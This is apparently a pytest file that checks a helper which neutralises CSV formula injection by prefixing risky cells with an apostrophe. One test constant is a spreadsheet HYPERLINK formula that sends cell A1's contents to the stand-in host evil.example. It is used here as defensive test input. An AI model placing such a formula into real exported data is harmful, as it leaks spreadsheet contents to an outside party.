"""CSV cells a spreadsheet would run as formulas are written as text, with a leading apostrophe."""

import csv
import datetime as dt
import io

import pytest

from docgen import csvsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.mark.parametrize("text", [HYPERLINK, "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
                                  "=", "-"])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Martin", "N'Diaye", "Lefèvre-Dubois", " =1", "a=b", "'=déjà neutralisé", "",
                                   None, 3, -5, 2.5, dt.date(2027, 1, 12)])
def test_other_cells_are_written_as_they_are(value):
    assert csvsafe.cell(value) is value


def test_the_writer_neutralises_each_cell_and_keeps_csv_quoting():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\n")
    writer.writerow(["matricule", "nom"])
    writer.writerows([["E1", HYPERLINK], ["-E2", "Martin, Julien"]])

    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["matricule", "nom"], ["E1", "'" + HYPERLINK], ["'-E2", "Martin, Julien"]]


def test_the_dict_writer_neutralises_each_cell():
    buffer = io.StringIO()
    writer = csvsafe.dict_writer(buffer, ["nom", "pages"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"nom": HYPERLINK, "pages": -1})
    writer.writerows([{"nom": "@cmd", "pages": 2}])

    assert list(csv.DictReader(io.StringIO(buffer.getvalue()))) == [
        {"nom": "'" + HYPERLINK, "pages": "-1"}, {"nom": "'@cmd", "pages": "2"}]
